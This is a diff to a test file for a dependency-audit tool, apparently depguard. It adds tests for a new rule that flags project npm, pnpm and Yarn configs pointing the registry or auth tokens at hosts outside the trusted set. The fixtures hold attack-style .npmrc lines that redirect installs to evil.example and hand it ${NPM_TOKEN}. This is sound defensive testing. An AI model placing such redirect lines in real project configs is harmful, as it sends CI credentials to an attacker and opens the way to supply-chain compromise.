@@ -8,11 +8,15 @@ import { audit } from '../../src/commands/check.js';
 import npmConfig from '../../src/checks/npm-config/index.js';
 import { parseNpmrc, parseYamlSettings } from '../../src/checks/npm-config/read.js';
 import type { Finding } from '../../src/model.js';
+import type { RegistryConfig } from '../../src/enrich/npm-config.js';
 import { fixture, tempProject } from '../helpers/project.js';
 import { EXAMPLE_REGISTRY } from '../helpers/run.js';
 
-async function check(path: string) {
-  const { result } = await audit({ path, registries: EXAMPLE_REGISTRY, only: ['npm-config'], today: '2026-11-27' });
+/** The fixtures' company registry for @acme, as the user's (trusted) npm config would name it. */
+const ACME_TRUSTED: RegistryConfig = { ...EXAMPLE_REGISTRY, scopes: { '@acme': 'https://npm.acme.example.org/' } };
+
+async function check(path: string, registries = ACME_TRUSTED) {
+  const { result } = await audit({ path, registries, only: ['npm-config'], today: '2026-11-27' });
   return result;
 }
 
@@ -25,6 +29,7 @@ describe('npm-config metadata', () => {
   it('declares its rules with their default severities, runs by default and needs no registry', () => {
     expect(Object.fromEntries(Object.entries(npmConfig.meta.rules).map(([rule, meta]) => [rule, meta.severity]))).toEqual({
       'committed-credential': 'critical',
+      'untrusted-registry': 'high',
       'insecure-registry': 'high',
       'strict-ssl-off': 'high',
       'no-cooldown': 'low',
@@ -131,5 +136,44 @@ describe('npm-config: edge cases', () => {
       { file: 'pnpm-workspace.yaml', line: 2, path: ['a', 'b'], value: 1 },
       { file: 'pnpm-workspace.yaml', line: 3, path: ['c'], value: ['x', 'y'] },
     ]);
+  });
+});
+
+describe("npm-config: a registry only the project's config names (security-npmrc-redirect)", () => {
+  const attack = {
+    'package.json': { name: 'app', version: '1.0.0' },
+    '.npmrc': 'registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n//evil.example/:username=ci\nmin-release-age=3\n',
+  };
+
+  it('is a high finding per entry, with file, line, key and host, never the token', async () => {
+    const result = await check(tempProject(attack), EXAMPLE_REGISTRY);
+    expect(summary(result.findings)).toEqual(['npm-config/untrusted-registry .npmrc:1 registry', 'npm-config/untrusted-registry .npmrc:2 //evil.example/:_authToken']);
+    expect(result.findings.map((f) => f.severity)).toEqual(['high', 'high']);
+    expect(result.findings[1]!.evidence).toEqual({ file: '.npmrc', line: 2, key: '//evil.example/:_authToken', host: 'evil.example' });
+    expect(result.findings[1]!.message).toBe(
+      '.npmrc:2 points //evil.example/:_authToken at evil.example, which is not a trusted registry (npm config outside the project, --registry, or lockfile.allowedHosts): depguard neither trusts it nor sends it credentials',
+    );
+  });
+
+  it('scoped registries, pnpm and Yarn registries count; trusted hosts and lockfile.allowedHosts do not fire', async () => {
+    const dir = tempProject({
+      'package.json': { name: 'app', version: '1.0.0' },
+      '.npmrc': '@evil:registry=https://evil.example:8443/npm/\n@acme:registry=https://npm.acme.example.org/\n//npm.acme.example.org/:_authToken=${NPM_TOKEN}\nregistry=${REGISTRY}\nmin-release-age=3\n',
+      'pnpm-workspace.yaml': 'registries:\n  default: https://pnpm.evil.example/\n  "@acme": https://npm.acme.example.org/\n',
+      '.yarnrc.yml': 'npmRegistryServer: "https://mirror.example.com"\nnpmRegistries:\n  "//yarn.evil.example":\n    npmAuthToken: "${NPM_TOKEN}"\n',
+      'depguard.config.json': { checks: { lockfile: ['on', { allowedHosts: ['mirror.example.com'] }] } },
+    });
+    const result = await check(dir);
+    expect(summary(result.findings).filter((line) => line.includes('untrusted'))).toEqual([
+      'npm-config/untrusted-registry .npmrc:1 @evil:registry',
+      'npm-config/untrusted-registry .yarnrc.yml:4 npmRegistries.//yarn.evil.example.npmAuthToken',
+      'npm-config/untrusted-registry pnpm-workspace.yaml:2 registries.default',
+    ]);
+    expect(result.findings.find((f) => f.evidence.key === '@evil:registry')!.evidence.host).toBe('evil.example:8443');
+  });
+
+  it('a project config that names only the trusted registries is not a finding', async () => {
+    const dir = tempProject({ 'package.json': { name: 'app', version: '1.0.0' }, '.npmrc': 'registry=https://registry.example.org/\n//registry.example.org/:_authToken=${NPM_TOKEN}\nmin-release-age=3\n' });
+    expect((await check(dir, EXAMPLE_REGISTRY)).findings).toEqual([]);
   });
 });
